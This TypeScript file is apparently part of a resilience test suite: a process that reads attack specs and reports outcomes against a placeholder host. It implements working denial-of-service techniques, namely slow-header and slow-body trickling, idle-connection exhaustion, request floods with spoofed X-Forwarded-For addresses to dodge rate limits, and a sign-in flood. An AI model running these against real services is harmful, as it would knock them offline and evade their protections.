/** A process that attacks: it reads an Attack as a line of JSON, and answers how often each outcome came. */
import http from 'node:http'
import net from 'node:net'
import { constants, setPriority } from 'node:os'
import { createInterface } from 'node:readline'
import { setTimeout as pause } from 'node:timers/promises'
import { printLine } from '../print-line.ts'
import { bombs } from './bombs.ts'

export type Attack = {
  kind: keyof typeof attacks
  url: string
  seconds: number
  /** Connections at the same time. */
  count: number
  headers: Record<string, string>
}
export type Outcomes = Record<string, number>

/** Each attacker has an address of their own, as behind a proxy that is believed. */
let addresses = 0
function nextAddress(): string {
  addresses += 1
  return `10.${(addresses >> 16) & 255}.${(addresses >> 8) & 255}.${addresses & 255}`
}

const TRICKLE_MS = 1_000

/** Opens many sockets that begin with `start` and then send `more` once a second; counts how many are open at the end. */
async function trickle(
  { url, count, seconds }: Attack,
  start: () => string,
  more: string,
): Promise<Outcomes> {
  const { hostname, port } = new URL(url)
  const outcomes: Outcomes = { open: 0, 'cut off': 0 }
  const over = Date.now() + seconds * 1_000
  const one = async (): Promise<void> => {
    const socket = net.connect(Number(port), hostname)
    let isOpen = true
    socket.on('error', () => {})
    socket.on('close', () => {
      isOpen = false
    })
    socket.resume()
    const text = start()
    if (text !== '') socket.write(text)
    while (isOpen && Date.now() < over) {
      await pause(TRICKLE_MS)
      if (isOpen && more !== '') socket.write(more)
    }
    const outcome = isOpen ? 'open' : 'cut off'
    outcomes[outcome] = (outcomes[outcome] ?? 0) + 1
    socket.destroy()
  }
  await Promise.all(Array.from({ length: count }, one))
  return outcomes
}

type Sent = { method: string; path: string; headers?: Record<string, string>; body?: Buffer | string }

function send(url: string, agent: http.Agent, { method, path, headers, body }: Sent): Promise<string> {
  return new Promise((resolve) => {
    const request = http.request(url + path, {
      method,
      agent,
      headers: { 'x-forwarded-for': nextAddress(), ...headers },
      timeout: 60_000,
    })
    request.on('response', (response) => {
      response.resume()
      response.once('close', () => resolve(String(response.statusCode)))
    })
    request.once('timeout', () => {
      resolve('hung')
      request.destroy()
    })
    request.once('error', () => resolve('cut off'))
    request.end(body)
  })
}

/** So many at once send one request after the other until the time is over. */
async function flood({ url, count, seconds }: Attack, make: (nth: number) => Sent): Promise<Outcomes> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: count })
  const outcomes: Outcomes = {}
  const over = Date.now() + seconds * 1_000
  let sent = 0
  const work = async (): Promise<void> => {
    while (Date.now() < over) {
      sent += 1
      const outcome = await send(url, agent, make(sent))
      outcomes[outcome] = (outcomes[outcome] ?? 0) + 1
    }
  }
  await Promise.all(Array.from({ length: count }, work))
  agent.destroy()
  return outcomes
}

const json = { 'content-type': 'application/json' }
const HEAD = 'Host: arroba.example\r\nUser-Agent: slow\r\n'

const attacks = {
  'slow headers': (attack: Attack) => trickle(attack, () => `GET /v4/tags HTTP/1.1\r\n${HEAD}`, 'X-A: b\r\n'),
  'slow bodies': (attack: Attack) =>
    trickle(
      attack,
      () =>
        `POST /v5/users HTTP/1.1\r\n${HEAD}X-Forwarded-For: ${nextAddress()}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 500000\r\n\r\n--x\r\n`,
      'a',
    ),
  'idle connections': (attack: Attack) => trickle(attack, () => '', ''),
  bombs: (attack: Attack) =>
    flood(attack, (nth) => ({ ...(bombs[nth % bombs.length] ?? { method: 'GET', path: '/' }) })),
  'flood of one address': (attack: Attack) =>
    flood(attack, () => ({
      method: 'GET',
      path: '/v6/market/today',
      headers: { 'x-forwarded-for': '10.255.0.1' },
    })),
  'flood of many addresses': (attack: Attack) =>
    flood(attack, (nth) => ({ method: 'GET', path: `/v6/market/prices?page=${nth}` })),
  'flood of tries to sign in': (attack: Attack) =>
    flood(attack, (nth) => ({
      method: 'POST',
      path: '/v4/users/sign_in',
      headers: json,
      body: JSON.stringify({ email: `ninguem${nth}@arroba.example`, password: 'senha-errada' }),
    })),
  'streams of one person': (attack: Attack) => trickle(attack, () => streamOf(attack), ''),
}

function streamOf({ headers }: Attack): string {
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`)
  return `GET /v6/users/me/live HTTP/1.1\r\n${HEAD}${lines.join('')}\r\n`
}

// Real attackers are other machines, so this process must not take processor time from the server.
setPriority(constants.priority.PRIORITY_LOW)

for await (const line of createInterface({ input: process.stdin })) {
  const attack: Attack = JSON.parse(line)
  printLine(JSON.stringify(await attacks[attack.kind](attack)))
}
